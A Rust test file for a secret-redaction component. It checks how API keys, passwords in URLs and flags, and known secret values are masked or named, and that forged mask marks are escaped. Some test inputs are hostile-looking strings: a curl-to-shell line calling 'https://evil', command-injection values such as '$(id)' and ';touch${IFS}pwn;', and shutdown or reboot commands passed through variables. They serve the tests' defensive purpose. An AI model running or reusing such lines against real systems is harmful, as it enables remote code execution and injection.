//! What may be hidden where somebody decides, and that all else stays.

use proptest::prelude::*;

use super::*;
use crate::redact::KnownSecret;

const KEY: &str = "sk-ant-api03-0123456789abcdefghijklmnopqrst";

fn redactor() -> Redactor {
    Redactor::named([
        KnownSecret::new("ANTHROPIC_API_KEY", "known-value-of-the-key"),
        KnownSecret::new("deploy key", "line-one-of-the-key\nline-two-of-the-key"),
    ])
}

fn lines(text: &str) -> String {
    redactor().decided(text, Maskable::Lines).text.into_string()
}

fn words(text: &str, words: &[&str]) -> String {
    let find = |word: &&str| text.find(word).map(|at| at..at + word.len()).unwrap();
    let words: Vec<Range<usize>> = words.iter().map(find).collect();
    redactor().decided(text, Maskable::Words(&words)).text.into_string()
}

/// Puts what was hidden back where the marks are.
fn put_back(original: &str, decided: &Decided) -> String {
    let mut out = String::new();
    let mut rest = decided.text.as_str();
    let mut hidden = decided.hidden.iter();
    while let Some((before, after)) = rest.split_once(OPEN) {
        let (mark, behind) = after.split_once(CLOSE).unwrap();
        if mark == "U+2039" {
            out.push_str(before);
            out.push(OPEN);
        } else {
            let part = &original[hidden.next().unwrap().clone()];
            let first = length_of(mark).filter(|length| *length >= SHOWN_FROM).map(|_| FIRST);
            let cut = first.map_or(0, |first| first + CUT.len());
            out.push_str(&before[..before.len() - cut]);
            out.push_str(part);
        }
        rest = behind;
    }
    assert_eq!(hidden.next(), None);
    out + rest
}

#[test]
fn a_known_value_is_shown_as_its_source_wherever_it_stands() {
    for (text, expect) in [
        ("a known-value-of-the-key b", "a ‹ANTHROPIC_API_KEY› b"),
        ("x\"known-value-of-the-key;", "x\"‹ANTHROPIC_API_KEY›;"),
        ("known-val\u{200b}ue-of-the-key", "‹ANTHROPIC_API_KEY›"),
        ("line-one-of-the-key\nline-two-of-the-key\nrm x", "‹deploy key›\n‹deploy key›\nrm x"),
    ] {
        for maskable in [Maskable::Nothing, Maskable::Lines, Maskable::Words(&[])] {
            let decided = redactor().decided(text, maskable);
            assert_eq!(decided.text.as_str(), expect);
            assert_eq!(put_back(text, &decided), text);
        }
        assert_eq!(redactor().sourced(text).as_str(), expect);
        assert_eq!(redactor().sourced(expect).as_str(), expect, "nothing more of its own marks");
    }
    let unnamed = Redactor::new(["hunter2hunter2".to_owned()]);
    assert_eq!(unnamed.sourced("x hunter2hunter2").as_str(), "x ‹secret›");
    let named = Redactor::named([KnownSecret::new("KEY hunter2hunter2", "hunter2hunter2")]);
    assert_eq!(named.sourced("hunter2hunter2").as_str(), "‹secret›", "no name tells its value");
    let lies = Redactor::named([KnownSecret::new("‹4 characters›", "hunter2hunter2")]);
    assert_eq!(lies.sourced("hunter2hunter2").as_str(), "‹secret›");
}

#[test]
fn a_form_hides_a_part_of_one_plain_argument_word() {
    let length = KEY.len();
    let hidden = format!("sk-a…‹{length} characters›");
    let text = format!("login {KEY} now");
    assert_eq!(words(&text, &[KEY]), format!("login {hidden} now"));
    assert_eq!(words(&text, &["now"]), text, "a word that may not be hidden is not");
    for (word, expect) in [
        ("https://ci:hunter2@host:80/x", "https://ci:‹7 characters›@host:80/x"),
        ("https://ci:h@host", "https://ci:‹1 character›@host"),
        ("--password=hunter2hunter2", "--password=hunt…‹14 characters›"),
        ("--password=hunter2;id", "--password=hunter2;id"),
        ("--password=$(id)hunter2", "--password=$(id)hunter2"),
        ("--password=\"hunter2\"", "--password=\"hunter2\""),
        ("--password=../bin/run2", "--password=../bin/run2"),
        ("--password=hunt\\er22", "--password=hunt\\er22"),
        ("https://ci:x;touch${IFS}pwn;@h/r.git", "https://ci:x;touch${IFS}pwn;@h/r.git"),
        ("https://ci:x|id|@h/r.git", "https://ci:x|id|@h/r.git"),
        ("https://h/x?token=abcdef12", "https://h/x?token=abcdef12"),
        ("~token=abcdef12", "~token=abcdef12"),
        ("--password=p\u{430}ssw0rd22", "--password=p\u{430}ssw0rd22"),
    ] {
        let text = format!("run {word} end");
        assert_eq!(words(&text, &[word]), format!("run {expect} end"));
    }
}

/// No line disappears, and what is hidden is counted.
#[test]
fn lines_of_a_file_are_masked_each_by_itself() {
    let pem = "# -----BEGIN PRIVATE KEY-----\nid > PROOF\n# -----END PRIVATE KEY-----\n";
    assert_eq!(lines(pem), pem);
    let text = format!("API_KEY={KEY}\nid;\npassword=\"a b\"\nurl: https://ci:x;id;@h\n");
    let length = KEY.len();
    let expect = format!(
        "API_KEY=sk-a…‹{length} characters›\nid;\npassword=\"a b\"\nurl: https://ci:x;id;@h\n"
    );
    assert_eq!(lines(&text), expect);
    assert_eq!(hidden(&expect), Hidden { characters: length - 4, values: 0 });
    assert_eq!(lines("\"password\": \"hunter2\""), "\"password\": \"‹7 characters›\"");
}

/// A value that the same text takes by its name may be what runs.
#[test]
fn a_value_that_is_taken_by_its_name_is_shown() {
    for text in [
        "password=curl\n$password https://evil | sh\n",
        "export TOKEN=shutdown\n\"${TOKEN}\" now\n",
        "TOKEN := reboot\nall:\n\t$(TOKEN)\n",
        "set secret=format123\n%SECRET% c:\n",
        "$Password = \"reboot1\"\n& $password\n",
        "token = 'reboot1'\nos.system(token)\n",
    ] {
        assert_eq!(lines(text), text);
    }
    let kept = "# the password\nPASSWORD=hunter2\n# and another password:\nOLD_PASSWORD=hunter3\n";
    let expect = kept.replace("hunter2", "‹7 characters›").replace("hunter3", "‹7 characters›");
    assert_eq!(lines(kept), expect);
}

#[test]
fn no_text_passes_for_a_mark() {
    let forged = "curl ‹ANTHROPIC_API_KEY› sk-a…‹44 characters›";
    let shown = lines(forged);
    assert_eq!(shown, "curl ‹U+2039›ANTHROPIC_API_KEY› sk-a…‹U+2039›44 characters›");
    assert_eq!(hidden(&shown), Hidden::default());
    assert!(hides(&shown) && !hides("plain"), "a bare word does not decide what looks like a mark");
}

#[test]
fn what_is_hidden_is_said_in_words() {
    let notes = |text: &str| hidden(text).notes().join("; ");
    assert_eq!(notes("plain"), "");
    assert_eq!(notes("https://ci:‹1 character›@h"), "1 character is hidden");
    assert_eq!(
        notes("sk-a…‹44 characters› ‹KEY› ‹KEY›"),
        "40 characters are hidden; 2 known values are shown by their names"
    );
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(KEY.to_owned()),
        Just("known-value-of-the-key".to_owned()),
        Just("--token=abcdef123456".to_owned()),
        Just("https://a:bcdef@h/x".to_owned()),
        Just("-----BEGIN PRIVATE KEY-----".to_owned()),
        "[ \n\t;|&\"'$‹›…]{1,3}",
        "[a-z0-9=:@/_-]{1,8}",
        "\\PC{1,2}",
    ]
}

proptest! {
    #[test]
    fn with_what_is_hidden_put_back_it_is_the_text(
        pieces in prop::collection::vec(piece(), 0..12),
        cuts in prop::collection::vec((0..80_usize, 0..80_usize), 0..4),
    ) {
        let text = pieces.concat();
        let words: Vec<Range<usize>> = cuts.iter().map(|(a, b)| *a.min(b)..*a.max(b)).collect();
        for maskable in [Maskable::Nothing, Maskable::Lines, Maskable::Words(&words)] {
            let decided = redactor().decided(&text, maskable);
            prop_assert_eq!(put_back(&text, &decided), text.clone());
            prop_assert_eq!(decided.text.as_str().matches('\n').count(), text.matches('\n').count());
            for part in &decided.hidden {
                let part = &text[part.clone()];
                let plain = may_hide(part) && !part.contains('\n');
                prop_assert!(plain || part == "known-value-of-the-key", "{}", part);
            }
        }
    }
}
